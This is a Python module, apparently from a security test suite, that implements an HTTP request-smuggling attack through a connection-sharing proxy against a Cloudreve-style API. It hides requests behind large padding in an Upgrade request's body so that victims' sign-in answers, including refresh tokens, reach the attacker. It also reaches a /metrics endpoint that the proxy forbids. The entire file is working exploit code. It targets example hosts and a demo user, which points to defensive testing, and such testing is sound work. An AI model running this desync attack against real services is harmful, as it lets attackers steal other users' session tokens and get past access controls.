"""Steal another person's answer through a proxy that shares its connections to the service.

The attacker's request asks for an upgrade and has a body. A service that takes the body as absent
runs what stands in it as requests of their own; their answers go to whoever the proxy sends next.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from dataclasses import dataclass

from tests.attacks.answers import Answer, whole_answers
from tests.attacks.target import Target, attack, connected, send

SIGN_IN = "/api/v4/session/token"
REFRESH = "/api/v4/session/token/refresh"
ID = "x-cr-correlation-id"
GARBAGE = {"refresh_token": "garbage"}
TRIES = 8
PADDING = 300_000
"""Bytes of empty lines before the hidden requests. Servers skip them before a request line, so it
does not matter where a proxy cuts the body; and they do not come in one read.
"""


@dataclass(slots=True)
class Toll:
    """What became of the requests around an attack.

    Args:
        asked: requests of victims and of the attacker that were answered.
        crossed: that got the answer of another request.
        stolen: of these, answers with somebody's tokens.
        forbidden: answers with metrics, which the proxy forbids.
    """

    asked: int = 0
    crossed: int = 0
    stolen: int = 0
    forbidden: int = 0

    def count(self, sent: str, said: Answer) -> None:
        """Compare the id that was sent with the one that came back."""
        crossed = said.headers.get("x-correlation-id") != sent
        self.asked += 1
        self.crossed += crossed
        self.stolen += crossed and b"refresh_token" in said.body
        self.forbidden += b"# HELP" in said.body


def request(path: str, body: dict[str, str], correlation: str, *headers: str) -> bytes:
    """A request of Cloudreve's dialect, which answers with the id that it was given."""
    text = json.dumps(body).encode()
    lines = [f"POST {path} HTTP/1.1", "Host: id.example.com", "Content-Type: application/json"]
    lines += [f"Content-Length: {len(text)}", f"{ID}: {uuid.UUID(correlation)}", *headers]
    return "\r\n".join([*lines, "", ""]).encode() + text


def slow(correlation: str) -> bytes:
    """A sign-in that is refused after a password was hashed."""
    stranger = {"email": f"{correlation}@example.com", "password": "wrong"}
    return request(SIGN_IN, stranger, correlation)


def poison(target: Target, protocol: str, *concealed: bytes) -> None:
    """Send an upgrade request whose body contains other requests, and read its own response."""
    body = b"\r\n" * (PADDING // 2) + b"".join(concealed)
    head = (
        f"POST {REFRESH} HTTP/1.1\r\nHost: id.example.com\r\nContent-Type: application/json\r\n"
        f"Connection: Upgrade\r\nUpgrade: {protocol}\r\nContent-Length: {len(body)}\r\n\r\n"
    ).encode()
    with connected(target) as connection:
        send(connection, [head + body])
        connection.recv(65_536)


def ask(target: Target, toll: Toll, *requests: tuple[str, bytes]) -> None:
    """Requests in one write on a connection of their own, each with the id that it carries."""
    with connected(target) as connection:
        send(connection, [b"".join(each for _, each in requests)])
        stream = b""
        while len(found := whole_answers(stream)) < len(requests):
            piece = connection.recv(65_536)
            if not piece:
                break
            stream += piece
    for (sent, _), said in zip(requests, found, strict=False):
        toll.count(sent, said)


def steal(target: Target, victim: dict[str, str], toll: Toll, protocol: str) -> None:
    """The attacker asks before and after a victim, each as soon as the one before is answered."""
    poison(target, protocol, slow(uuid.uuid4().hex))
    wrong = {"email": f"{uuid.uuid4().hex}@example.com", "password": "wrong"}
    for path, body in ((SIGN_IN, wrong), (SIGN_IN, victim), (REFRESH, GARBAGE)):
        correlation = uuid.uuid4().hex
        ask(target, toll, (correlation, request(path, body, correlation)))


def trespass(target: Target, toll: Toll, protocol: str) -> None:
    """Ask for what the proxy forbids, and read on behind it."""
    metrics = b"GET /metrics HTTP/1.1\r\nHost: id.example.com\r\n\r\n"
    poison(target, protocol, slow(uuid.uuid4().hex), metrics)
    ids = [uuid.uuid4().hex for _ in range(3)]
    ask(target, toll, *((each, request(REFRESH, GARBAGE, each)) for each in ids))


def desync(target: Target, email: str, password: str, protocol: str = "websocket") -> Toll:
    """Try to steal from that person, and to see the metrics, again and again."""
    toll = Toll()
    for _ in range(TRIES):
        steal(target, {"email": email, "password": password}, toll, protocol)
        trespass(target, toll, protocol)
    return toll


def run(target: Target) -> Iterator[Toll]:
    """Run the attack with a person of the demo directory."""
    yield desync(target, "ada@example.com", "correct horse")


if __name__ == "__main__":
    attack(run)
